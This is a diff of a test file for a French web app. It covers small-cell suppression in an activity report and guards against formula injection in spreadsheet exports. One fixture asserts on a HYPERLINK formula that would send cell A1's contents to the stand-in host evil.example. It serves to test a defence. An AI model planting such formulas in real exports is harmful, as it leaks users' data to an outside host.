@@ -132,7 +132,7 @@ def test_small_cells_in_the_bilan_and_its_exports(client, login, make_user, netw
     login(make_user(role="admin"))
     html = client.get("/activity/bilan?department=15").get_data(as_text=True)
     # the sign is escaped in the lead as in the cells (a raw « < » is invalid HTML)
-    assert "notés «\u00a0&lt; 3\u00a0»" in html and "« < 3" not in html
+    assert "notée «\u00a0&lt; 3\u00a0»" in html and "« < 3" not in html
     assert (
         '<tr data-indicator="porteurs"><th scope="row">Porteurs touchés</th><td>&lt; 3</td>' in html
     )
@@ -172,7 +172,8 @@ def test_exported_titles_never_run_as_formulas(client, login, make_user, network
     cells = [c for row in book["Séances"].iter_rows(min_row=2) for c in row]
     titled = [c for c in cells if "HYPERLINK" in str(c.value)]
     assert titled and all(c.data_type == "s" for c in titled)
-    assert all(str(c.value).startswith("'=") for c in titled)
+    # The title exactly, without the CSV's apostrophe (a fresh tester saw it in the cell).
+    assert [c.value for c in titled] == ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez")']
 
 
 def test_the_small_cell_is_not_undone_by_the_reports_page_or_its_history(
